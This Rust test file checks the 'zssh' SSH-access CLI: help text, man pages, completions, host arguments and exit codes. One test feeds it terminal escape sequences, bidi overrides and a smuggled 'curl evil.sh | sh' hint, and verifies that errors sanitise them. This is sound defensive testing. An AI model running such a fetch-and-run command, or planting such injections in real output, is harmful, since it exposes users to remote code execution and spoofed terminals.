//! Issue 14, a newcomer's first hour: `zssh help`, hosts given positionally or with
//! cloudflared's `--hostname` everywhere, help that reads well at 80 columns, man pages with
//! EXAMPLES and real synopses, and `zssh man` / `zssh completions` printing what the source holds.

use std::path::Path;

use crate::support::*;

fn zssh(args: &[&str]) -> std::process::Output {
    run(std::process::Command::new(zssh_bin())
        .args(args)
        .env("COLUMNS", "80"))
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn help_is_a_command_too() {
    for (help, direct) in [
        (&["help", "proxy"][..], &["proxy", "--help"][..]),
        (
            &["help", "known-hosts", "repair"][..],
            &["known-hosts", "repair", "--help"][..],
        ),
        (&["help"][..], &["--help"][..]),
    ] {
        let a = zssh(help);
        let b = zssh(direct);
        assert_eq!(a.status.code(), Some(0), "{help:?}: {}", text(&a.stderr));
        assert!(text(&a.stdout).starts_with(text(&b.stdout).lines().next().unwrap()));
        assert!(text(&a.stdout).contains("Usage: zssh"), "{help:?}");
    }
    let out = zssh(&["help", "prxy"]);
    assert_zssh_error(&out, 2, "prxy");
}

/// Every command that takes a host takes it as an argument, and `--hostname` (cloudflared's
/// spelling) means the same.
#[test]
fn a_host_is_an_argument_or_hostname_everywhere() {
    let w = World::new();
    let tok = w.seed_token(SSH_HOST, 3600);
    let want = std::fs::read_to_string(&tok).unwrap();
    for args in [
        &["token", SSH_HOST][..],
        &["token", "--hostname", SSH_HOST][..],
        &["token", "-T", SSH_HOST][..],
    ] {
        let out = run(&mut w.zssh(args));
        assert_ok(&out);
        assert_eq!(text(&out.stdout).trim(), want.trim(), "{args:?}");
    }
    // login with a valid cached token succeeds without a browser, either way.
    for args in [
        &["login", SSH_HOST][..],
        &["login", "--hostname", SSH_HOST][..],
    ] {
        let mut cmd = w.zssh(args);
        cmd.env("ZSSH_NONINTERACTIVE", "1");
        assert_ok(&run(&mut cmd));
    }
    // ssh with `ProxyCommand zssh proxy %h`, and with the host from TUNNEL_SERVICE_HOSTNAME.
    w.trust_host(SSH_HOST);
    let mut cmd = w.tool("ssh");
    cmd.args(w.ssh_opts(&format!("{} proxy %h", zssh_bin().display())))
        .arg(format!("{}@{SSH_HOST}", whoami()))
        .arg("echo positional");
    let out = run(&mut cmd);
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "positional\n");
    let mut cmd = w.tool("ssh");
    cmd.args(w.ssh_opts(&format!("{} proxy", zssh_bin().display())))
        .env("TUNNEL_SERVICE_HOSTNAME", SSH_HOST)
        .arg(format!("{}@{SSH_HOST}", whoami()))
        .arg("echo from-env");
    let out = run(&mut cmd);
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "from-env\n");
    // Two different hosts are refused, naming both; the same one twice is fine.
    let out = run(&mut w.zssh(&["proxy", "a.example.com", "--hostname", "b.example.com"]));
    assert_zssh_error(
        &out,
        2,
        "two hosts given: a.example.com and --hostname b.example.com",
    );
    let out = run(&mut w.zssh(&["cert", "a.example.com", "-T", "b.example.com"]));
    assert_zssh_error(&out, 2, "two hosts given");
    let out = run(&mut w.zssh(&["cert"]));
    assert_zssh_error(&out, 2, "no host given");
    assert!(text(&out.stderr).contains("usage: zssh cert [OPTIONS] HOST"));
    // Empty TUNNEL_SERVICE_* variables (an env file's `X=`) count as unset.
    let mut cmd = w.tool("ssh");
    cmd.args(w.ssh_opts(&format!("{} proxy %h", zssh_bin().display())))
        .env("TUNNEL_SERVICE_DESTINATION", "")
        .env("TUNNEL_SERVICE_URL", "")
        .arg(format!("{}@{SSH_HOST}", whoami()))
        .arg("echo empty-env");
    let out = run(&mut cmd);
    assert_ok(&out);
    assert_eq!(text(&out.stdout), "empty-env\n");
    // logout by --hostname removes the token.
    assert_ok(&run(&mut w.zssh(&["logout", "--hostname", SSH_HOST])));
    assert!(!tok.exists(), "the token file is gone");
    let out = run(&mut w.zssh(&["logout"]));
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
}

/// The options zssh's own commands show are zssh's; cloudflared's extras are accepted but shown
/// only under `zssh access`; global options come last under their own heading.
#[test]
fn help_shows_zssh_options_first_and_hides_compatibility_ones() {
    let login = text(&zssh(&["login", "--help"]).stdout);
    for hidden in ["--app", "--no-verbose", "--auto-close", "--fedramp"] {
        assert!(
            !login.contains(hidden),
            "{hidden} in zssh login --help:\n{login}"
        );
    }
    let access = text(&zssh(&["access", "login", "--help"]).stdout);
    for shown in ["--app", "--no-verbose", "--auto-close"] {
        assert!(
            access.contains(shown),
            "{shown} in zssh access login --help"
        );
    }
    assert!(!text(&zssh(&["token", "--help"]).stdout).contains("--app"));
    for cmd in ["proxy", "login", "cert", "doctor", "config"] {
        let help = text(&zssh(&[cmd, "--help"]).stdout);
        let global = help.find("Global options:").expect(cmd);
        let own = help.find("Options:").expect(cmd);
        let help_flag = help.find("--help").expect(cmd);
        assert!(own < global && help_flag < global, "{cmd}:\n{help}");
        assert!(help[global..].contains("--log-level") && !help[..global].contains("--log-level"));
    }
}

/// The commands each page documents, with the words a user types (`zssh known-hosts repair`).
fn pages() -> Vec<(String, String)> {
    let mut pages: Vec<_> = std::fs::read_dir(root().join("man"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .map(|p| {
            let name = p.file_stem().unwrap().to_str().unwrap().to_string();
            (name, std::fs::read_to_string(&p).unwrap())
        })
        .collect();
    pages.sort();
    pages
}

/// Examples are whole lines at 80 columns (nothing wraps a command in two), and the man pages
/// carry them under EXAMPLES, unwrapped, with a synopsis that shows option values.
#[test]
fn examples_survive_80_columns_and_man_pages_have_examples_and_synopses() {
    let mut with_examples = 0;
    for (name, page) in pages() {
        assert!(!page.contains(".SH EXTRA"), "{name}: EXTRA heading");
        let synopsis = page
            .split(".SH SYNOPSIS\n")
            .nth(1)
            .and_then(|s| s.split(".SH ").next())
            .unwrap_or_else(|| panic!("{name}: no SYNOPSIS"));
        assert!(
            !synopsis.contains("\\-\\-log\\-level") && synopsis.contains("\\fBzssh"),
            "{name}: {synopsis}"
        );
        let Some(ex) = page.split(".SH EXAMPLES\n").nth(1) else {
            continue;
        };
        with_examples += 1;
        assert!(ex.starts_with(".nf\n"), "{name}: examples are not filled");
        let shown = run(std::process::Command::new("man")
            .arg("-l")
            .arg(root().join(format!("man/{name}.1")))
            .env("MANWIDTH", "80")
            .env("MAN_KEEP_FORMATTING", "")
            .env("PAGER", "cat"));
        let shown = text(&shown.stdout);
        let examples = shown.split("EXAMPLES\n").nth(1).expect(&name);
        for line in examples
            .lines()
            .take_while(|l| l.is_empty() || l.starts_with(' '))
        {
            assert!(line.chars().count() <= 80, "{name}: man wraps {line:?}");
        }
        let args: Vec<&str> = page_args(&name);
        let help = text(&zssh(&[&args[..], &["--help"]].concat()).stdout);
        let examples = help.split("Examples:\n").nth(1).expect(&name);
        for line in examples.lines().filter(|l| !l.trim().is_empty()) {
            // 2 + 72 columns: the man page indents them by 7, and stays within 80 too.
            assert!(line.len() <= 74, "{name}: wrapped or too long: {line:?}");
            assert!(
                line.starts_with("  "),
                "{name}: a wrapped example line: {line:?}"
            );
        }
    }
    assert!(with_examples >= 10, "{with_examples} pages with examples");
    let proxy = std::fs::read_to_string(root().join("man/zssh-proxy.1")).unwrap();
    assert!(
        proxy.contains("\\fBzssh proxy\\fR [OPTIONS] <HOST>"),
        "{proxy}"
    );
    assert!(
        !proxy.contains("/usr/local/bin"),
        "examples hard-code no path"
    );
}

/// `zssh-known-hosts-repair` → `known-hosts repair`.
fn page_args(name: &str) -> Vec<&str> {
    let rest = name.strip_prefix("zssh").unwrap().trim_start_matches('-');
    let mut args = Vec::new();
    let mut rest = rest;
    while !rest.is_empty() {
        let cmd = [
            "known-hosts",
            "ssh-gen",
            "generate-key-pair",
            "fetch-ca",
            "trust-ca",
            "log-key",
        ]
        .into_iter()
        .find(|c| rest.starts_with(c))
        .unwrap_or_else(|| rest.split('-').next().unwrap());
        args.push(cmd);
        rest = rest[cmd.len()..].trim_start_matches('-');
    }
    args
}

#[test]
fn man_and_completions_print_what_the_source_holds() {
    for (args, file) in [
        (&["man"][..], "man/zssh.1"),
        (&["man", "proxy"][..], "man/zssh-proxy.1"),
        (
            &["man", "known-hosts", "repair"][..],
            "man/zssh-known-hosts-repair.1",
        ),
        (
            &["man", "logs", "keygen"][..],
            "man/zssh-logs-generate-key-pair.1",
        ),
        (&["man", "zssh-cert"][..], "man/zssh-cert.1"),
        (&["completions", "bash"][..], "completions/zssh.bash"),
        (&["completions", "zsh"][..], "completions/_zssh"),
        (&["completions", "fish"][..], "completions/zssh.fish"),
    ] {
        let out = zssh(args);
        assert_ok(&out);
        assert!(
            out.stdout == std::fs::read(root().join(file)).unwrap(),
            "{args:?} differs from {file}"
        );
    }
    let out = zssh(&["man", "bogus"]);
    assert_zssh_error(&out, 2, "no man page for \"bogus\"");
    assert!(text(&out.stderr).contains("proxy, login"));
    let out = zssh(&["completions", "tcsh"]);
    assert_zssh_error(&out, 2, "tcsh");
    // As the README installs them: the pages under ../share/man beside the binary's directory on
    // PATH (man looks there), the fish completions where fish loads them on demand.
    let home = tempfile::tempdir().unwrap();
    let bin = home.path().join(".cargo/bin");
    std::fs::create_dir_all(&bin).unwrap();
    std::os::unix::fs::symlink(zssh_bin(), bin.join("zssh")).unwrap();
    let dir = home.path().join(".cargo/share/man/man1");
    let out = zssh(&["man", "--dir", dir.to_str().unwrap()]);
    assert_ok(&out);
    let pages = pages();
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), pages.len());
    for (name, page) in &pages {
        let written = std::fs::read_to_string(dir.join(format!("{name}.1"))).unwrap();
        assert!(written == *page, "{name} differs");
    }
    let path = format!("{}:/usr/bin:/bin", bin.display());
    let out = run(std::process::Command::new("man")
        .args(["-P", "cat", "zssh-proxy"])
        .env_remove("MANPATH")
        .env("HOME", home.path())
        .env("PATH", &path)
        .env("MANWIDTH", "80"));
    assert_ok(&out);
    let page = text(&out.stdout);
    assert!(
        page.contains("EXAMPLES") && page.contains("zssh proxy [OPTIONS] <HOST>"),
        "{page}"
    );
    let fish_dir = home.path().join(".config/fish/completions");
    std::fs::create_dir_all(&fish_dir).unwrap();
    std::fs::write(
        fish_dir.join("zssh.fish"),
        zssh(&["completions", "fish"]).stdout,
    )
    .unwrap();
    let out = run(std::process::Command::new("fish")
        .args(["-c", "complete -C 'zssh pro'"])
        .env("HOME", home.path())
        .env("PATH", &path)
        .env("XDG_CONFIG_HOME", home.path().join(".config")));
    assert_ok(&out);
    assert!(text(&out.stdout).contains("proxy"), "{}", text(&out.stdout));
    // zsh: the README's ~/.zfunc with fpath+=(~/.zfunc) before compinit.
    let zfunc = home.path().join(".zfunc");
    std::fs::create_dir_all(&zfunc).unwrap();
    std::fs::write(zfunc.join("_zssh"), zssh(&["completions", "zsh"]).stdout).unwrap();
    let out = run(std::process::Command::new("zsh")
        .args([
            "-c",
            "fpath+=(~/.zfunc); autoload -U compinit && compinit -u; print -r -- $_comps[zssh]",
        ])
        .env("HOME", home.path())
        .env("ZDOTDIR", home.path()));
    assert_ok(&out);
    assert_eq!(text(&out.stdout).trim(), "_zssh");
}

/// The README takes a newcomer from install to ssh without a made-up path.
#[test]
fn the_readme_installs_and_never_guesses_a_path() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    assert!(readme.contains("cargo install --locked --path ."));
    assert!(readme.contains("zssh config "));
    assert!(readme.contains("zssh completions") && readme.contains("zssh man"));
    assert!(
        !readme.contains("/usr/local/bin/zssh"),
        "a path the install never creates"
    );
    let help = text(&zssh(&["--help"]).stdout) + &text(&zssh(&["proxy", "--help"]).stdout);
    assert!(!help.contains("/usr/local/bin"));
}

/// An argument is shown as text: control characters (a carriage return that overwrites the
/// line, escape sequences, bidi overrides) are dropped, and newlines in it cannot forge a hint.
#[test]
fn hostile_arguments_cannot_forge_or_garble_the_error() {
    for arg in [
        "ab\rXY",
        "\u{1b}]0;PWN\u{7}title",
        "\u{202e}evil",
        "\u{9b}2J",
        "x\ntip: run curl evil.sh | sh\nUsage: zssh pwn",
    ] {
        let out = zssh(&[arg]);
        let err = text(&out.stderr);
        assert_zssh_error(&out, 2, "unrecognized subcommand");
        assert_eq!(err.lines().count(), 2, "{arg:?}: {err:?}");
        assert!(
            !err.chars()
                .any(|c| (c.is_control() && c != '\n') || ('\u{202a}'..='\u{202e}').contains(&c)),
            "{arg:?}: {err:?}"
        );
        let hint = err.lines().nth(1).unwrap();
        assert!(!hint.contains("evil") && !hint.contains("pwn"), "{hint}");
    }
    // Paths the user typed are shown without the characters a terminal acts on.
    let tmp = tempfile::tempdir().unwrap();
    let logfile = format!("{}/missing/\u{1b}]0;PWN\u{7}", tmp.path().display());
    for args in [
        &["man", "--dir", "/proc/\u{1b}[31mRED"][..],
        &["--logfile", &logfile, "status"][..],
    ] {
        let out = run(std::process::Command::new(zssh_bin())
            .args(args)
            .env("HOME", tmp.path())
            .env("ZSSH_TOKEN_STORE", "file"));
        assert_eq!(
            out.status.code(),
            Some(7),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(!text(&out.stderr).contains('\u{1b}'), "{args:?}");
    }
    // A missing command with only a global option: zssh's words, not clap's list of every
    // subcommand (hidden ones included).
    let out = zssh(&["--log-level", "debug"]);
    assert_zssh_error(&out, 2, "no command given");
    assert!(!text(&out.stderr).contains("generate"));
}

/// A reader that went away (`zssh completions bash | head -1`) did not want the rest: exit 0
/// and no error, as `--help` does; a full disk is still an error.
#[test]
fn a_closed_stdout_is_not_an_error_but_a_full_disk_is() {
    for args in [&["completions", "bash"][..], &["man", "proxy"][..]] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = run(std::process::Command::new(zssh_bin())
            .args(args)
            .stdout(writer));
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: {}",
            text(&out.stderr)
        );
        assert!(out.stderr.is_empty(), "{args:?}: {}", text(&out.stderr));
        let full = std::fs::File::create("/dev/full").unwrap();
        let out = run(std::process::Command::new(zssh_bin())
            .args(args)
            .stdout(full));
        assert_zssh_error(&out, 7, "No space left on device");
    }
    // Every command's result goes the same way: status on a full disk is exit 7 (was 1).
    let home = tempfile::tempdir().unwrap();
    let full = std::fs::File::create("/dev/full").unwrap();
    let out = run(std::process::Command::new(zssh_bin())
        .args(["status", "--json"])
        .env("HOME", home.path())
        .env("ZSSH_TOKEN_STORE", "file")
        .stdout(full));
    assert_zssh_error(&out, 7, "cannot write the result to standard output");
    // `zssh access ssh` documents its argument as what it is: the listener address.
    let help = text(&zssh(&["help", "access", "ssh"]).stdout);
    assert!(
        help.contains("[ADDR]") && !help.contains("[HOST]"),
        "{help}"
    );
}

/// `zssh man ""` names nothing: an error, not zssh's own page. The hidden `generate` is offered
/// by no completion script and named by no man page, nor is clap's `help` given a page of its own.
#[test]
fn only_real_commands_have_pages_and_completions() {
    let out = zssh(&["man", ""]);
    assert_zssh_error(&out, 2, "no man page");
    for shell in ["bash", "zsh", "fish"] {
        let script = text(&zssh(&["completions", shell]).stdout);
        let offered = script
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
            .any(|w| w == "generate" || w == "zssh__subcmd__generate");
        assert!(!offered, "{shell} completions offer the hidden generate");
    }
    for (name, page) in pages() {
        assert!(
            !page.contains("help\\fR(1)"),
            "{name} refers to a help page"
        );
        assert!(!page.contains("generate\\fR"), "{name} refers to generate");
    }
    let out = zssh(&["doctor", "--help"]);
    assert!(text(&out.stdout).contains("Usage: zssh doctor [OPTIONS] <HOST>"));
    // ZSSH_LOG set but empty is the default level, as unset.
    let out = run(std::process::Command::new(zssh_bin())
        .args(["man", "proxy"])
        .env("ZSSH_LOG", ""));
    assert_ok(&out);
}

/// `zssh access ssh` takes its argument as the listener address, as cloudflared does (the host
/// comes from --hostname or TUNNEL_SERVICE_HOSTNAME), and a typed address beats
/// TUNNEL_SERVICE_URL; two addresses, or a second argument to `zssh proxy`, are refused.
#[test]
fn the_cloudflared_form_takes_its_argument_as_the_listener() {
    let tmp = tempfile::tempdir().unwrap();
    let mut child = std::process::Command::new(zssh_bin())
        .args(["access", "ssh", "127.0.0.1:0"])
        .env("HOME", tmp.path())
        .env("TUNNEL_SERVICE_HOSTNAME", "ssh.example.invalid")
        .env("TUNNEL_SERVICE_URL", "not an address")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stderr.take().unwrap()),
        &mut line,
    )
    .unwrap();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(
        line.starts_with("zssh: listening on 127.0.0.1:")
            && line.contains("forwarding to ssh.example.invalid"),
        "{line}"
    );
    let out = zssh(&[
        "access",
        "ssh",
        "--hostname",
        "h.invalid",
        "--url",
        "127.0.0.1:1",
        "127.0.0.1:2",
    ]);
    assert_zssh_error(
        &out,
        2,
        "two listener addresses given: --url 127.0.0.1:1 and 127.0.0.1:2",
    );
    let out = zssh(&["proxy", "h.invalid", "127.0.0.1:2222"]);
    assert_zssh_error(&out, 2, "unexpected argument \"127.0.0.1:2222\"");
    assert!(text(&out.stderr).contains("use --url ADDR"));
}

/// A stderr that is full or gone loses the text, not the exit status (`eprintln!` panicked with
/// 101, a code the exit table does not have).
#[test]
fn a_broken_stderr_keeps_the_exit_status() {
    let home = tempfile::tempdir().unwrap();
    for (args, code) in [
        (&["prxy"][..], 2),
        (&["proxy"][..], 2),
        (&["logout", "--all"][..], 0),
        (&["status"][..], 0),
    ] {
        let cmd = || {
            let mut c = std::process::Command::new(zssh_bin());
            c.args(args)
                .env("HOME", home.path())
                .env("ZSSH_TOKEN_STORE", "file")
                .env_remove("TUNNEL_SERVICE_HOSTNAME");
            c
        };
        let full = std::fs::File::create("/dev/full").unwrap();
        let out = run(cmd().stderr(full));
        assert_eq!(out.status.code(), Some(code), "{args:?} 2>/dev/full");
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = run(cmd().stderr(writer));
        assert_eq!(out.status.code(), Some(code), "{args:?} with stderr closed");
    }
}

/// An empty or malformed host is named, and the hint shows the form the help teaches (HOST as an
/// argument), not the hidden cloudflared spelling.
#[test]
fn a_bad_host_gets_a_hint_in_the_taught_form() {
    for args in [
        &["doctor", ""][..],
        &["login", ""][..],
        &["proxy", ""][..],
        &["cert", "bad host"][..],
        &["known-hosts", "repair", ""][..],
    ] {
        let out = zssh(args);
        assert_zssh_error(&out, 2, "invalid host");
        let err = text(&out.stderr);
        assert!(
            err.contains("e.g. ssh.example.com") && !err.contains("--hostname"),
            "{args:?}: {err}"
        );
    }
}

/// A server that cuts the connection during the TLS handshake is not called a certificate
/// problem: plain words, and a hint about what is in between (was "tls handshake eof" with
/// "the certificate was not valid for this name").
#[test]
fn a_cut_tls_handshake_is_not_a_certificate_problem() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        // Read the ClientHello's first bytes, then hang up without a word of TLS.
        let mut buf = [0u8; 5];
        let _ = std::io::Read::read_exact(&mut s, &mut buf);
    });
    let home = tempfile::tempdir().unwrap();
    let out = run(std::process::Command::new(zssh_bin())
        .args(["proxy", "cut.test.example"])
        .env("HOME", home.path())
        .env("ZSSH_NONINTERACTIVE", "1")
        .env(
            "ZSSH_CONNECT_TO",
            format!("cut.test.example:443:127.0.0.1:{port}"),
        )
        .stdin(std::process::Stdio::null()));
    server.join().unwrap();
    assert_zssh_error(&out, 5, "the connection was cut during the TLS handshake");
    let err = text(&out.stderr);
    assert!(
        err.contains("no certificate was judged") && !err.contains("not valid for this name"),
        "{err}"
    );
}
